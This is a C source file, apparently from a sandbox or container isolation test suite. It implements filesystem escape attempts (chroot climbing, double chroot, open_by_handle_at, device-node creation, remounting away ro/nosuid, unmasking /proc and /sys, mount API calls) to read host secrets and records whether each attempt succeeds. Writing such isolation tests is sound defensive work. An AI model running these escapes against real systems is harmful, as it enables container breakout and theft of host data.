/* SPDX-License-Identifier: Apache-2.0 */
/*
 * inside_files - attack steps on file systems, mounts and devices (F rows)
 *
 * Runs as: root inside the attacker's machine; host root in a throw-away mount namespace for the
 * positive control. Paths are plain strings on purpose: this is what an attacker types.
 */
#include "prove/step.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/mount.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "base/fd.h"
#include "base/mem.h"
#include "base/str.h"

/* More levels than any path here has: enough to be at the top of whatever tree this is. */
#define CLIMB_LEVELS 64
#define MOUNTS_MAX   256
#define PLAY_DIR     "/croft-prove-mount"

/* Reads what @name beneath @dir holds into the fact's text. */
static bool read_secret(struct fact *fact, int dir, const char *name)
{
    auto_close fd = openat(dir, name, O_RDONLY | O_CLOEXEC);
    char bytes[64];

    if (!fact_tried(fact, fd))
        return false;
    ssize_t size = fd_read_full(fd, bytes, sizeof(bytes) - 1);
    if (size <= 0)
        return false;
    bytes[size] = '\0';
    fact_note(fact, "%s", bytes);
    return true;
}

/* Goes up from @fd (consumed) as far as it goes. Return: descriptor (caller owns); -1 */
static int climb(int fd)
{
    for (int i = 0; fd >= 0 && i < CLIMB_LEVELS; i++) {
        int up = openat(fd, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);

        close(fd);
        fd = up;
    }
    return fd;
}

/* argv: paths of secrets, relative to the host's root. number[0]: how many were read. */
static void act_climb(struct step_run *run)
{
    static const char *const starts[] = {
        "/",           ".",    "/proc/1/root", "/proc/self/root", "/proc/self/cwd",
        "/proc/1/cwd", "/dev", "/proc/self/fd"};

    for (size_t i = 0; i < ARRAY_LEN(starts); i++) {
        auto_close top = climb(open(starts[i], O_PATH | O_DIRECTORY | O_CLOEXEC));

        for (int j = 0; top >= 0 && j < run->argc; j++)
            (void)read_secret(&run->fact, top, run->argv[j]);
    }
}

/* The classic: a root below the current directory, so that ".." never meets it. */
static void act_double_chroot(struct step_run *run)
{
    auto_close here = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
    auto_close root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);

    (void)mkdir(PLAY_DIR, 0700);
    if (!fact_tried(&run->fact, chroot(PLAY_DIR)))
        return;
    run->fact.number[0] = 0;
    for (int i = 0; i < 2; i++) {
        int start = i ? root : here;
        auto_close top = start < 0 ? -1 : climb(openat(start, ".", O_PATH | O_CLOEXEC));

        for (int j = 0; top >= 0 && j < run->argc; j++)
            (void)read_secret(&run->fact, top, run->argv[j]);
    }
    if (root >= 0)
        (void)unlinkat(root, &PLAY_DIR[1], AT_REMOVEDIR);
}

/*
 * argv: type and hexadecimal bytes of a handle that the host made of its secret, then directories
 * to try it on. number[0]: how many directories gave a descriptor.
 */
static void act_handle(struct step_run *run)
{
    struct {
        struct file_handle head;
        unsigned char bytes[MAX_HANDLE_SZ];
    } handle = {0};
    const char *hex = step_arg(run, 1);

    handle.head.handle_bytes = (unsigned)(strlen(hex) / 2);
    handle.head.handle_type = (int)step_number(run, 0);
    if (handle.head.handle_bytes > MAX_HANDLE_SZ ||
        str_unhex(hex, handle.head.f_handle, handle.head.handle_bytes) < 0)
        return;
    for (int i = 2; i < run->argc; i++) {
        auto_close dir = open(run->argv[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (dir < 0)
            continue;
        auto_close fd = open_by_handle_at(dir, &handle.head, O_RDONLY | O_CLOEXEC);
        char bytes[64];

        if (!fact_tried(&run->fact, fd))
            continue;
        ssize_t size = fd_read_full(fd, bytes, sizeof(bytes) - 1);
        if (size > 0) {
            bytes[size] = '\0';
            fact_note(&run->fact, "%s", bytes);
        }
    }
}

/* argv: major, minor, then directories to make the node in. number[0]: opened and read. */
static void act_device(struct step_run *run)
{
    dev_t device = makedev((unsigned)step_number(run, 0), (unsigned)step_number(run, 1));

    for (int i = 2; i < run->argc; i++) {
        char path[256];

        if (str_format(path, sizeof(path), "%s/croft-prove-node", run->argv[i]) < 0)
            continue;
        (void)unlink(path);
        if (mknod(path, S_IFBLK | 0600, device) < 0) {
            run->fact.error = errno;
            run->fact.number[1]++;
            continue;
        }
        run->fact.number[2]++;
        (void)read_secret(&run->fact, AT_FDCWD, path);
        (void)unlink(path);
    }
}

/* Fills @points with the mount points of this process. Return: how many */
static size_t mount_points(char points[][128], size_t max)
{
    FILE *file = fopen("/proc/self/mountinfo", "re");
    size_t count = 0;
    char line[1024];

    while (file && count < max && fgets(line, sizeof(line), file)) {
        char *at = line;

        for (int field = 0; at && field < 4; field++) {
            at = strchr(at, ' ');
            at = at ? at + 1 : NULL;
        }
        char *end = at ? strchr(at, ' ') : NULL;
        if (!end)
            continue;
        *end = '\0';
        if (str_copy(points[count], sizeof(points[count]), at) == 0)
            count++;
    }
    if (file)
        (void)fclose(file);
    return count;
}

/* Takes ro, nosuid, nodev and noexec off every mount. number[0]: how many let it happen. */
static void act_remount(struct step_run *run)
{
    static char points[MOUNTS_MAX][128];
    size_t count = mount_points(points, MOUNTS_MAX);

    for (size_t i = 0; i < count; i++)
        if (fact_tried(&run->fact, mount(NULL, points[i], NULL, MS_REMOUNT | MS_BIND, NULL)))
            fact_note(&run->fact, "%s", points[i]);
    if (fact_tried(&run->fact, mount("/", "/mnt", NULL, MS_BIND | MS_REC, NULL)))
        fact_note(&run->fact, "bind");
}

/* Unmounts what lies over /proc and /sys. number[0]: how many hiding mounts went away. */
static void act_unmask(struct step_run *run)
{
    static char points[MOUNTS_MAX][128];
    size_t count = mount_points(points, MOUNTS_MAX);

    for (size_t i = 0; i < count; i++) {
        if (strncmp(points[i], "/proc/", 6) != 0 && strncmp(points[i], "/sys", 4) != 0 &&
            strncmp(points[i], PLAY_DIR, sizeof(PLAY_DIR) - 1) != 0)
            continue;
        if (fact_tried(&run->fact, umount2(points[i], MNT_DETACH)))
            fact_note(&run->fact, "%s", points[i]);
    }
    if (fact_tried(&run->fact, umount2("/proc", MNT_DETACH)))
        fact_note(&run->fact, "/proc");
}

static bool mount_type(struct fact *fact, const char *type)
{
    if (!fact_tried(fact, mount("none", PLAY_DIR, type, 0, NULL)))
        return false;
    fact_note(fact, "%s", type);
    (void)umount2(PLAY_DIR, MNT_DETACH);
    return true;
}

/* argv: types; none: every one that the kernel lists. number[0]: how many could be mounted. */
static void act_mount_types(struct step_run *run)
{
    char line[128];

    (void)mkdir(PLAY_DIR, 0700);
    for (int i = 0; i < run->argc; i++)
        (void)mount_type(&run->fact, run->argv[i]);
    if (run->argc)
        return;
    FILE *file = fopen("/proc/filesystems", "re");
    while (file && fgets(line, sizeof(line), file)) {
        char *type = strchr(line, '\t');

        if (!type)
            continue;
        type[strcspn(type, "\n")] = '\0';
        (void)mount_type(&run->fact, type + 1);
    }
    if (file)
        (void)fclose(file);
}

static void undo_mount_types(struct step_run *run)
{
    (void)run;
    (void)rmdir(PLAY_DIR);
}

/* The same by the mount API of Linux 5.2 and later. number[0]: calls that worked. */
static void act_mount_api(struct step_run *run)
{
    struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOSUID};
    struct fact *fact = &run->fact;

    auto_close fs = (int)syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC);
    if (fact_tried(fact, fs))
        fact_note(fact, "fsopen");
    auto_close tree = (int)syscall(SYS_open_tree, AT_FDCWD, "/",
                                   OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_RECURSIVE);
    if (fact_tried(fact, tree))
        fact_note(fact, "open_tree");
    auto_close picked = (int)syscall(SYS_fspick, AT_FDCWD, "/", FSPICK_CLOEXEC);
    if (fact_tried(fact, picked))
        fact_note(fact, "fspick");
    if (fact_tried(fact, syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, &attr, sizeof(attr))))
        fact_note(fact, "mount_setattr");
    if (fact_tried(fact, syscall(SYS_move_mount, AT_FDCWD, "/proc", AT_FDCWD, "/mnt", 0)))
        fact_note(fact, "move_mount");
}

/* argv: a directory. number[0]: the immutable flag could be set on a file there. */
static void act_immutable(struct step_run *run)
{
    char path[256];
    int flags = 0;

    if (str_format(path, sizeof(path), "%s/croft-prove-flag", step_arg(run, 0)) < 0)
        return;
    auto_close fd = open(path, O_CREAT | O_RDWR | O_CLOEXEC, 0600);
    if (fd < 0 || ioctl(fd, FS_IOC_GETFLAGS, &flags) < 0) {
        run->fact.error = errno;
        return;
    }
    int wanted = flags | FS_IMMUTABLE_FL;
    if (fact_tried(&run->fact, ioctl(fd, FS_IOC_SETFLAGS, &wanted)))
        (void)ioctl(fd, FS_IOC_SETFLAGS, &flags);
    (void)unlink(path);
}

const struct step steps_files[] = {
    {"F-01", act_climb, NULL},
    {"F-02", act_double_chroot, NULL},
    {"F-03", act_handle, NULL},
    {"F-04", act_device, NULL},
    {"F-06", act_remount, NULL},
    {"F-07", act_unmask, NULL},
    {"F-25", act_mount_types, undo_mount_types},
    {"F-27", act_mount_api, NULL},
    {"F-36", act_immutable, NULL},
};
const size_t steps_files_count = ARRAY_LEN(steps_files);
